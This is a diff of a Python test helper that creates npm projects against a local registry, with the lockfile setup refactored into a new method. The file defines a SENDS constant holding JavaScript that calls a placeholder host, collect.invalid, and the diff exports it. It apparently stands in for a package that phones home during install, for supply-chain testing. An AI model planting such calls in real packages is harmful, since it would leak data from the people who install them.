@@ -16,7 +16,7 @@ from tools.expected_trees.registry import Registry  # a tool, not on the path by
 if TYPE_CHECKING:
     from pathlib import Path
 
-__all__ = ["Project", "Registry", "filled"]
+__all__ = ["SENDS", "Project", "Registry", "filled"]
 
 SENDS = "require('https').get('https://collect.invalid/x')"
 PACKAGES: tuple[tuple[str, str, dict[str, str], str], ...] = (
@@ -43,14 +43,21 @@ class Project:
             "npm_config_fetch_retries": "0",
         }
         folder.mkdir()
+        self._npm = npm
         (folder / ".npmrc").write_text(f"registry={registry.url}\n")
+        self.lock_again()
+
+    def lock_again(self) -> None:
+        """Lock the first versions, of what the registry has now."""
+        for name in ("package-lock.json", "package.json"):
+            (self.folder / name).unlink(missing_ok=True)
         asked = {"quiet-x": "1.0.0", "loud-x": "1.0.0", "carrier-x": "1.0.0"}
         self._write(asked)
         options = ["--package-lock-only", "--no-audit", "--no-fund"]
         for _ in range(2):
             subprocess.run(
-                [npm, "install", *options],
-                cwd=folder,
+                [self._npm, "install", *options],
+                cwd=self.folder,
                 check=True,
                 capture_output=True,
                 env=self.environment,
